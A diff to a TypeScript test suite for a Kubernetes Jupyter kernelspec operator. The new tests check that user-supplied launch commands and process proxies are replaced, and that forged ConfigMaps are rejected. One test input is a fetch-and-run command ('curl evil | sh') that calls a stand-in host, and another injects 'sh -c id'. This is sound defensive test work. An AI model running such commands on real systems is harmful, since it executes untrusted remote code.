@@ -3,8 +3,9 @@ import { join } from "node:path";
 import { fileURLToPath } from "node:url";
 import type { JupyterKernelSpec, JupyterKernelTemplate } from "@elastic-jupyter/api";
 import { expectGolden } from "../gateways/golden.ts";
-import { DEFAULT_PROCESS_PROXY, desiredKernelspecConfigMap, kernelJson, kernelspecStatus } from "./configmap.ts";
-import { desiredKernelspecs } from "./files.ts";
+import type { ConfigMap } from "kubernetes-types/core/v1.js";
+import { DEFAULT_PROCESS_PROXY, desiredKernelspecConfigMap, kernelJson, kernelspecStatus, trustedKernelspecConfigMaps } from "./configmap.ts";
+import { KERNELSPEC_LABEL, desiredKernelspecs } from "./files.ts";
 
 const testdata = fileURLToPath(new URL("./testdata/", import.meta.url));
 
@@ -44,11 +45,14 @@ describe("kernelspec ConfigMap", () => {
     expect(k.argv.join(" ")).to.contain("--kernel-spec python-kubernetes --kernel-spec-namespace default");
   });
 
-  it("keeps a custom class name and a custom launcher as given", () => {
-    const custom = kernelspec("c", { language: "python", image: "i", className: "my.module.Proxy", command: ["my-launcher", "{kernel_id}", "{port_range}", "{response_address}", "{public_key}"] });
+  it("runs only our launcher and process proxy in the gateway, whatever spec.command and className say", () => {
+    const custom = kernelspec("c", { language: "python", image: "i", className: "my.module.Proxy", command: ["sh", "-c", "curl evil | sh"] });
     const k = kernelJson(custom) as { argv: string[]; metadata: { process_proxy: { class_name: string } } };
-    expect(k.metadata.process_proxy.class_name).to.equal("my.module.Proxy");
-    expect(k.argv).to.deep.equal(["my-launcher", "{kernel_id}", "{port_range}", "{response_address}", "{public_key}"]);
+    expect(k.metadata.process_proxy.class_name).to.equal(DEFAULT_PROCESS_PROXY);
+    expect(k.argv.slice(0, 3)).to.deep.equal(["python", "-m", "elastic_jupyter.launch_kernel"]);
+    expect(k.argv.join(" ")).to.not.contain("curl");
+    const ours = kernelspec("o", { language: "python", image: "i", command: ["python", "-m", "elastic_jupyter.launch_kernel", "--kernel-spec", "other"] });
+    expect((kernelJson(ours) as { argv: string[] }).argv.join(" ")).to.contain("--kernel-spec o ").and.not.contain("other");
   });
 
   it("records display name (defaulting to the name), language, template reference and cull timeout", () => {
@@ -61,10 +65,32 @@ describe("kernelspec ConfigMap", () => {
 
   it("is what the sidecar's kernelspec sync selects and accepts", () => {
     const cms = [desiredKernelspecConfigMap(seed), desiredKernelspecConfigMap(minimal)];
-    const { specs, skipped } = desiredKernelspecs(cms as never, ["python-kubernetes"]);
+    const { trusted, skipped: untrusted } = trustedKernelspecConfigMaps(cms, [seed, minimal]);
+    expect(untrusted).to.deep.equal([]);
+    const { specs, skipped } = desiredKernelspecs(trusted, ["python-kubernetes"]);
     expect(skipped).to.deep.equal([]);
     expect([...specs.keys()]).to.deep.equal(["python-kubernetes"]);
     expect(JSON.parse(specs.get("python-kubernetes")!["kernel.json"]!.toString()).display_name).to.equal("Python on Kubernetes as a JupyterKernelSpec");
+  });
+
+  it("the sidecar trusts only ConfigMaps the operator rendered for an existing kernelspec, each refusal with a reason", () => {
+    const good = desiredKernelspecConfigMap(minimal);
+    const forged = (change: (cm: ConfigMap) => void): ConfigMap => { const cm = structuredClone(good); change(cm); return cm; };
+    const cases: Array<[string, ConfigMap, string]> = [
+      ["no owner", forged((cm) => { delete cm.metadata!.ownerReferences; }), "not controlled by JupyterKernelSpec py"],
+      ["another uid", forged((cm) => { cm.metadata!.ownerReferences![0]!.uid = "uid-other"; }), "not controlled by"],
+      ["another name", forged((cm) => { cm.metadata!.name = "py-evil"; }), "not the operator's ConfigMap"],
+      ["a foreign argv", forged((cm) => { cm.data!["kernel.json"] = JSON.stringify({ argv: ["sh", "-c", "id"], metadata: { process_proxy: { class_name: DEFAULT_PROCESS_PROXY } } }); }), "is not our launcher"],
+      ["another kernelspec's launch", forged((cm) => { cm.data!["kernel.json"] = cm.data!["kernel.json"]!.replace('"--kernel-spec",\n    "py"', '"--kernel-spec",\n    "gpu"'); }), "is not our launcher for py"],
+      ["a foreign process proxy", forged((cm) => { cm.data!["kernel.json"] = cm.data!["kernel.json"]!.replace(DEFAULT_PROCESS_PROXY, "enterprise_gateway.services.processproxies.k8s.KubernetesProcessProxy"); }), "process proxy is not"],
+      ["a label for a kernelspec that does not exist", forged((cm) => { cm.metadata!.labels![KERNELSPEC_LABEL] = "ghost"; cm.metadata!.name = "ghost-kernelspec"; }), "JupyterKernelSpec ghost does not exist"],
+    ];
+    for (const [what, cm, why] of cases) {
+      const { trusted, skipped } = trustedKernelspecConfigMaps([cm], [minimal]);
+      expect(trusted, what).to.deep.equal([]);
+      expect(skipped.join(), what).to.contain(why);
+    }
+    expect(trustedKernelspecConfigMaps([good], [minimal]).trusted).to.have.length(1);
   });
 
   it("is owned by its kernelspec", () => {
@@ -98,10 +124,13 @@ describe("kernelspec status", () => {
     expect(ready(kernelspecStatus({ spec: elsewhere, template: undefined, now: "t" })).reason).to.equal("TemplateInOtherNamespace");
   });
 
-  it("flags a custom launcher that drops a placeholder, naming spec.command", () => {
-    const c = ready(kernelspecStatus({ spec: kernelspec("k", { language: "python", image: "i", command: ["my-launcher", "{kernel_id}"] }), template: undefined, now: "t" }));
+  it("flags a command that is not the launcher and a foreign process proxy (stored before the CRD refused them), naming the fields", () => {
+    const c = ready(kernelspecStatus({ spec: kernelspec("k", { language: "python", image: "i", command: ["my-launcher", "{kernel_id}"], className: "x.Y" }), template: undefined, now: "t" }));
     expect(c).to.include({ status: "False", reason: "InvalidSpec" });
-    expect(c.message).to.contain("spec.command").and.contain("{public_key}");
+    expect(c.message).to.contain("spec.command").and.contain("spec.kernelCommand").and.contain("spec.className");
+    for (const command of [["kubeflow-launcher", "--verbose"], ["python3", "-m", "elastic_jupyter.launch_kernel"]]) {
+      expect(ready(kernelspecStatus({ spec: kernelspec("k", { language: "python", image: "i", command }), template: undefined, now: "t" })).status).to.equal("True");
+    }
   });
 
   it("is Ready without a template", () => {
